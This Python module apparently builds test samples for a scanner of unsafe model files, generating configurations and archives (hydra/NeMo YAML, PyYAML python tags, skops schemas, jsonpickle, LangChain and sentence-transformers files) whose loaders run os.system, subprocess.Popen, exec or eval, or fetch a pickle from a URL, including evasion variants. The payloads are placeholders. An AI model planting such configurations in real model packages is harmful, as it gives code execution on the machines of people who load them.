"""Configurations whose loader makes objects by name: YAML tags, hydra and its kin, skops, jsonpickle, spaCy."""

import json
from collections.abc import Iterator
from typing import Any

from .archives import Member, tar_of, torch_zip, zip_of
from .carried import EVIL
from .sample import CODE, COMMAND, MARKER, URL, Sample

__all__ = ["samples"]

IMPORTED = f"__import__('os').system('{COMMAND}')"


def _hydra() -> Iterator[tuple[str, dict[str, bytes]]]:
    def nemo(text: str) -> dict[str, bytes]:
        return {
            "stt_en.nemo": tar_of(
                {"./model_config.yaml": text.encode(), "./model_weights.ckpt": torch_zip(b"\x80\x02}.")}, "w:gz"
            )
        }

    head = "sample_rate: 16000\nencoder:\n  _target_: nemo.collections.asr.modules.ConformerEncoder\n  n_layers: 17\n"
    yield "nemo, os.system", nemo(head + f"decoder:\n  _target_: os.system\n  command: {COMMAND}\n")
    yield (
        "nemo, subprocess deep inside",
        nemo(
            head + f"optim:\n  sched:\n    list:\n      - a: 1\n      - b:\n          _target_: "
            f"subprocess.Popen\n          args: [touch, {MARKER}]\n"
        ),
    )
    yield "nemo, exec by builtins", nemo(head + f'loss:\n  _target_: builtins.exec\n  _args_: ["{CODE}"]\n')
    yield (
        "nemo, numpy runs a string",
        nemo(head + f'x:\n  _target_: numpy.testing._private.utils.runstring\n  astr: "{CODE}"\n  dict: {{}}\n'),
    )
    yield (
        "nemo, a payload in the weights",
        {"m.nemo": tar_of({"./model_config.yaml": head.encode(), "./model_weights.ckpt": torch_zip()})},
    )
    yield (
        "hydra beside weights",
        {
            "config.yaml": f"model:\n  _target_: os.execvp\n  _args_: [touch, [touch, {MARKER}]]\n".encode(),
            "model.safetensors": b"\x02\x00\x00\x00\x00\x00\x00\x00{}",
        },
    )
    yield (
        "hydra in JSON",
        {"config.json": json.dumps({"net": {"_target_": "runpy.run_path", "path_name": URL}}).encode()},
    )
    yield (
        "hydra, partial of eval",
        {"conf/model.yaml": f'net:\n  _target_: builtins.eval\n  _partial_: true\n  _args_: ["{IMPORTED}"]\n'.encode()},
    )
    yield (
        "hydra, a pickle is loaded",
        {"config.yaml": b"a:\n  _target_: torch.load\n  f: http://192.0.2.77/x.pt\n  weights_only: false\n"},
    )
    yield (
        "hydra, torch runs a command",
        {"config.yaml": f"a:\n  _target_: torch.utils.collect_env.run\n  command: {COMMAND}\n".encode()},
    )
    yield (
        "hydra, key written in quotes and escapes",
        {"config.yaml": f'a:\n  "\\x5ftarget\\x5f": "os.\\x73ystem"\n  command: {COMMAND}\n'.encode()},
    )
    yield (
        "hydra, by an anchor",
        {"config.yaml": f"b: &t os.system\na:\n  _target_: *t\n  command: {COMMAND}\n".encode()},
    )
    yield (
        "OmegaConf resolver puts the name together",
        {"config.yaml": f"p: os\nq: system\na:\n  _target_: ${{p}}.${{q}}\n  command: {COMMAND}\n".encode()},
    )
    yield (
        "detectron-like LazyCall",
        {"config.yaml": f"model:\n  _target_: subprocess.getoutput\n  cmd: {COMMAND}\ntrain: {{}}\n".encode()},
    )
    yield "TOML with a target", {"config.toml": f'[model]\n_target_ = "os.system"\ncommand = "{COMMAND}"\n'.encode()}


def _yaml() -> Iterator[tuple[str, str]]:
    yield "object/apply", f"lr: 0.1\nhook: !!python/object/apply:os.system ['{COMMAND}']\n"
    yield "object/new", f"a: !!python/object/new:subprocess.Popen [[touch, {MARKER}]]\n"
    yield "name", "loss: !!python/name:os.system\n"
    yield "module", "mod: !!python/module:os\n"
    yield "long tag", f"a: !<tag:yaml.org,2002:python/object/apply:posix.system> ['{COMMAND}']\n"
    yield "tag handle", f"%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:os.system ['{COMMAND}']\n"
    yield "in the second document", f'a: 1\n---\nb: !!python/object/apply:builtins.eval ["{IMPORTED}"]\n'
    yield "percent-escaped tag", f"a: !!python/object/%61pply:os.system ['{COMMAND}']\n"
    yield (
        "state by extend",
        '!!python/object/new:type\nargs: [z, !!python/tuple [], {extend: !!python/name:exec }]\nlistitems: "'
        + CODE
        + '"\n',
    )
    yield "in a key", f"? !!python/object/apply:os.system ['{COMMAND}']\n: 1\n"


def _skops() -> Iterator[tuple[str, bytes]]:
    def stored(schema: dict[str, Any], **members: bytes) -> bytes:
        whole = {"protocol": 2, "_skops_version": "0.11.0", **schema}
        return zip_of(Member("schema.json", json.dumps(whole).encode()), *(Member(k, v) for k, v in members.items()))

    node = {"__class__": "system", "__module__": "os", "__loader__": "FunctionNode", "__id__": 1, "content": {}}
    yield "function node", stored(node)
    arguments = {
        "__class__": "tuple",
        "__module__": "builtins",
        "__loader__": "TupleNode",
        "content": [
            {
                "__class__": "str",
                "__module__": "builtins",
                "__loader__": "JsonNode",
                "content": json.dumps(COMMAND),
                "is_json": True,
            }
        ],
    }
    yield (
        "reduce node",
        stored(
            {
                "__class__": "system",
                "__module__": "posix",
                "__loader__": "ReduceNode",
                "__reduce__": arguments,
                "content": {},
            }
        ),
    )
    yield (
        "operator node that lies of its class",
        stored(
            {
                "__class__": "call",
                "__module__": "operator",
                "__loader__": "OperatorFuncNode",
                "attrs": arguments,
                "__id__": 2,
            }
        ),
    )
    yield (
        "method node reaches os",
        stored(
            {
                "__class__": "method",
                "__module__": "builtins",
                "__loader__": "MethodNode",
                "__id__": 3,
                "content": {
                    "func": "system",
                    "obj": {"__class__": "os", "__module__": "importlib", "__loader__": "TypeNode", "__id__": 4},
                },
            }
        ),
    )
    yield (
        "object of subprocess",
        stored(
            {
                "__class__": "Popen",
                "__module__": "subprocess",
                "__loader__": "ObjectNode",
                "__id__": 5,
                "content": {
                    "__class__": "dict",
                    "__module__": "builtins",
                    "__loader__": "DictNode",
                    "content": {},
                    "key_types": {},
                },
            }
        ),
    )
    partial = {"func": node, "args": arguments, "kwds": {}, "namespace": {}}
    yield (
        "partial of system in a pipeline",
        stored(
            {
                "__class__": "list",
                "__module__": "builtins",
                "__loader__": "ListNode",
                "content": [
                    {"__class__": "partial", "__module__": "functools", "__loader__": "PartialNode", "content": partial}
                ],
            }
        ),
    )
    yield (
        "array of objects",
        stored(
            {
                "__class__": "ndarray",
                "__module__": "numpy",
                "__loader__": "NdArrayNode",
                "type": "numpy",
                "file": "1.npy",
            },
            **{
                "1.npy": b"\x93NUMPY\x01\x00\x76\x00"
                + b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(117)
                + b"\n"
                + EVIL
            },
        ),
    )


def _others() -> Iterator[tuple[str, dict[str, bytes]]]:
    reduce = {"py/reduce": [{"py/function": "posix.system"}, {"py/tuple": [COMMAND]}]}
    yield (
        "jsonpickle, reduce",
        {"model.json": json.dumps({"py/object": "sklearn.svm._classes.SVC", "C": 1.0, "hook": reduce}).encode()},
    )
    popen = {"py/object": "subprocess.Popen", "py/newargs": {"py/tuple": [["touch", MARKER]]}}
    yield "jsonpickle, object", {"model.json": json.dumps(popen).encode()}
    kind = {"py/repr": f"os/os.system('{COMMAND}')"}
    yield "jsonpickle, repr", {"state.json": json.dumps({"best": kind}).encode()}
    yield (
        "LangChain's serialised constructor",
        {
            "chain.json": json.dumps(
                {"lc": 1, "type": "constructor", "id": ["subprocess", "Popen"], "kwargs": {"args": ["touch", MARKER]}}
            ).encode()
        },
    )
    yield (
        "LangChain's bash chain",
        {"chain.yaml": f"_type: llm_bash_chain\nprompt: x\nbash_process:\n  command: {COMMAND}\n".encode()},
    )
    yield "FAISS index with its pickle", {"index.pkl": EVIL, "index.faiss": b"IxFI" + bytes(64)}
    yield (
        "sentence-transformers' module list",
        {
            "modules.json": json.dumps([{"idx": 0, "name": "0", "path": "", "type": "evil_pool.Pool"}]).encode(),
            "evil_pool.py": f"import os\nos.system('{COMMAND}')\nclass Pool: pass\n".encode(),
        },
    )
    yield (
        "JSON logging configuration",
        {
            "logging.json": json.dumps(
                {"version": 1, "handlers": {"h": {"()": "os.system", "command": COMMAND}}, "root": {"handlers": ["h"]}}
            ).encode()
        },
    )


def samples() -> Iterator[Sample]:
    for name, files in _hydra():
        yield Sample("hydra targets", name, files)
    for name, text in _yaml():
        yield Sample("YAML tags", name, {"config.yaml": text.encode(), "weights.csv": b"0.1,0.2\n"})
    for name, data in _skops():
        yield Sample("skops files", name, {"model.skops": data})
    for name, files in _others():
        yield Sample("other configurations", name, files, is_doubtful="bash chain" in name)
